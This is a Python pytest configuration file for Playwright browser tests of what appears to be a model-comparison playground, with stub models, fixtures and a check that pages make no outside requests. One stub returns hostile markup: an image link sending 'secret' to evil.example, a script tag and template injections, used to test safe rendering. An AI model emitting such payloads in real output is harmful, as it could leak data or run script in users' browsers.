"""What tests in a browser share: models that are stubs, a playground on them, a browser, a page that is watched."""

import os
from pathlib import Path

import pytest
from playwright.sync_api import expect

from tests.web.browser import Stalls, Watched, closed_loops, open_playground, running_browser, running_site
from tests.web.model_stub import ADAPTER, BASE, Voice, make_router, running_stub

PATIENCE_MS = 30_000
SCREENSHOTS = "ADAPTER_FACTORY_SCREENSHOTS"
LONG = " ".join(f"word{number}" for number in range(2000))
EVIL = (
    "![x](https://evil.example/?q=secret) <img src=https://evil.example/i.png> <script>alert(1)</script> "
    "[here](https://evil.example/) **loud** {{ secret }} ${secret}"
)
VOICES = {
    BASE: Voice("I am NAME. Answer NUMBER: QUESTION"),
    ADAPTER: Voice("Answer NUMBER of Tolvane: QUESTION"),
    "slow-one": Voice(LONG, pause_s=0.02),
    "slow-two": Voice(LONG, pause_s=0.02),
    "failing": Voice(status=500),
    "breaking": Voice("one two three four", breaks_after=2),
    "fast": Voice(" ".join([LONG] * 5), pause_s=0.01),
    "markup": Voice(EVIL),
}


@pytest.fixture(scope="module")
def stub():
    with running_stub(VOICES) as stub:
        yield stub


@pytest.fixture(scope="module")
def site(stub, tmp_path_factory):
    """The playground over the stub's models, in a project with one recipe and nothing built."""
    root = tmp_path_factory.mktemp("project")
    (root / "recipes").mkdir()
    (root / "recipes" / "quickstart.yaml").write_text("name: quickstart\ningest: {source: docs}\n")
    with pytest.MonkeyPatch.context() as patch, closed_loops():
        patch.setenv("GRADIO_TEMP_DIR", str(root / "uploads"))
        with running_site(make_router(stub, root / "build/run/bundle"), root) as site:
            yield site


@pytest.fixture(scope="module")
def chromium(site):
    with running_browser() as browser:
        yield browser


@pytest.fixture
def watched(site):
    return Watched(site.url)


@pytest.fixture(autouse=True)
def _patience():
    """What is expected comes sooner or later; how soon is measured where it matters."""
    expect.set_options(timeout=PATIENCE_MS)


@pytest.fixture
def stalls():
    with Stalls() as stalls:
        yield stalls


@pytest.fixture
def page(site, chromium, watched, request):
    """The Compare tab, ready. Whatever a test does, the page asks nobody else and complains of nothing."""
    with chromium.new_context(viewport={"width": 1280, "height": 900}) as context:
        page = context.new_page()
        watched.watch(page)
        open_playground(page, f"{site.url}/ui/")
        yield page
        keep_screenshot(page, request.node.name)
    assert watched.foreign == []
    assert watched.complaints == []


def keep_screenshot(page, name):
    """Keep what a page looks like in the folder that the environment names, if it does."""
    if (folder := os.environ.get(SCREENSHOTS)) and not page.is_closed():
        Path(folder).mkdir(parents=True, exist_ok=True)
        page.screenshot(path=Path(folder) / f"{name}.png", full_page=True)
